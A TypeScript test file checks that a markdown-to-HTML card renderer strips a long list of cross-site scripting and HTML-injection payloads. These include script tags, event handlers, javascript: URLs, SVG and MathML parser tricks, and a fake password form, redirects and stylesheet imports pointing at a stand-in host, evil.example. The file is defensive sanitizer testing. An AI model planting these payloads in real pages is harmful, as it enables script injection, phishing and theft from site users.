import type { Element, Root } from 'hast'
import rehypeRaw from 'rehype-raw'
import { unified } from 'unified'
import { describe, expect, test } from 'vitest'
import { markdownToHtml } from './card-pipeline.ts'
import { eachElement } from './card-tree.ts'

const bases = {
  linkBase: '/ada/stories/blob/main/',
  rawBase: '/ada/stories/resolve/main/',
  pictures: { mode: 'direct', key: '', origin: null },
} as const

/** Injection attempts that card authors have tried, or might try. */
const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<IMG SRC=`javascript:alert(1)`>',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x" src=a.png>',
  '<picture><source srcset="data:image/svg+xml,x"><img src=a></picture>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '[x](javascript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](JaVaScRiPt:alert(1))',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<form action="https://evil.example"><input name=password type=password><button>Sign in</button></form>',
  '<input type=text value=hi autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<select><option onclick=alert(1)>x</select>',
  '<style>body{display:none}</style>',
  '<style>@import url("https://evil.example/x.css");</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">cover</p>',
  '<p class="card-anchor fixed inset-0 z-50">cover</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<body onload=alert(1)>',
  '<html manifest=x><head><title>x</title></head>',
  '<img id=body name=cookie><a id=forms name=getElementById>x</a>',
  '<p id=__proto__>x</p><p id=constructor>y</p>',
  '# location\n\n# document',
  '<video src="javascript:alert(1)" poster="javascript:alert(1)" autoplay onplay=alert(1)></video>',
  '<audio src=data:audio/mp3,x onloadstart=alert(1)>',
  '<details ontoggle=alert(1) open><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onclick=alert(1)>',
  '```"><img/src/onerror=alert(1)>\ncode\n```',
  '```python\n</code></pre><script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  '$\\href{javascript:alert(1)}{x} \\htmlData{x=y}{z} \\includegraphics{http://evil.example/x}$',
  '$\\text{<img src=x onerror=alert(1)>"}$',
  '$$\n\\url{javascript:alert(1)} \\style{color:red}{x}\n$$',
  '[^x]\n\n[^x]: <script>alert(1)</script>',
  '| <img src=x onerror=alert(1)> |\n|--|\n| <script>alert(1)</script> |',
  '<a href="//evil.example" target=_top ping=https://evil.example rel=opener>x</a>',
  '<a href="https:evil.example">x</a><a href="\\\\evil.example">y</a>',
  '<div tabindex=1 accesskey=x contenteditable role=dialog aria-modal=true>x</div>',
  '<xss-component is=x onclick=alert(1)>x</xss-component>',
  '<table background="javascript:alert(1)"><td background=x>y</td></table>',
  '<p dir=rtl lang="x" title="</p><script>alert(1)</script>">x</p>',
]

const allowed = new Set(
  (
    'a annotation article audio b blockquote br code dd del details div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img input ins kbd li ' +
    'mark math menclose mi mn mo mpadded mrow mspace mstyle msub msubsup msup mtext ol p picture pre q rp rt ruby s samp section semantics small source span ' +
    'strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var video'
  ).split(' '),
)
const classNames =
  /^(?:language-[\w+#.-]+|math-(?:inline|display)|tok-[a-z-]+|card-(?:anchor|table|code|math)|katex|sr-only|footnotes|data-footnote-backref|task-list-item|contains-task-list)$/

function elementsOf(html: string): Element[] {
  const root: Root = { type: 'root', children: [{ type: 'raw', value: html } as never] }
  const elements: Element[] = []
  eachElement(unified().use(rehypeRaw).runSync(root) as Root, (element) => elements.push(element))
  return elements
}

function problemsOf(html: string): string[] {
  const problems: string[] = []
  for (const { tagName, properties } of elementsOf(html)) {
    if (!allowed.has(tagName)) problems.push(`<${tagName}>`)
    for (const [name, value] of Object.entries(properties)) {
      const text = Array.isArray(value) ? value.join(' ') : String(value)
      if (
        /^on/i.test(name) ||
        ['style', 'srcDoc', 'formAction', 'action', 'target', 'ping', 'background', 'autoPlay', 'is', 'contentEditable'].includes(name)
      )
        problems.push(`${tagName} ${name}`)
      if (['href', 'src', 'poster', 'cite', 'longDesc'].includes(name) && !/^(?:https?:|mailto:|[/#\\]|%)/i.test(text))
        problems.push(`${tagName} ${name}=${text}`)
      if (name === 'srcSet' && text.split(',').some((candidate) => !/^\s*(?:https?:|\/)/.test(candidate))) problems.push(`srcset=${text}`)
      if (['id', 'name'].includes(name) && !text.startsWith('user-content-')) problems.push(`${name}=${text}`)
      if (name === 'className')
        for (const part of text.split(' ').filter(Boolean)) if (!classNames.test(part)) problems.push(`class ${part}`)
      if (name === 'accessKey' || (name === 'tabIndex' && text !== '0') || (name === 'role' && text !== 'region'))
        problems.push(`${name}=${text}`)
    }
    if (
      tagName === 'a' &&
      /^(?:https?:|\/\/|\\)/i.test(String(properties['href'])) &&
      String(properties['rel']) !== 'nofollow,noopener,ugc'
    )
      problems.push(`rel of ${String(properties['href'])}`)
    if (tagName === 'input' && (properties['type'] !== 'checkbox' || properties['disabled'] !== true)) problems.push('a live input')
  }
  return problems
}

describe('a card is safe to put into a page', () => {
  test.for(attacks)('%s', async (attack) => {
    for (const markdown of [attack, `text ${attack} text`, `> - ${attack.replaceAll('\n', '\n>   ')}`, `<div>\n${attack}`]) {
      const { html } = await markdownToHtml(markdown, bases)
      expect(problemsOf(html)).toEqual([])
    }
  })

  test('the check itself sees what is wrong', () => {
    expect(
      problemsOf(
        '<p onclick="x" id="body" class="fixed"><iframe></iframe><a href="javascript:x">a</a><a href="https://a.b">c</a><input></p>',
      ),
    ).toEqual(['p onClick', 'id=body', 'class fixed', '<iframe>', 'a href=javascript:x', 'rel of https://a.b', 'a live input'])
  })

  test('all attacks in one card', async () => {
    const { html } = await markdownToHtml(attacks.join('\n\n'), bases)
    expect(problemsOf(html)).toEqual([])
  })
})
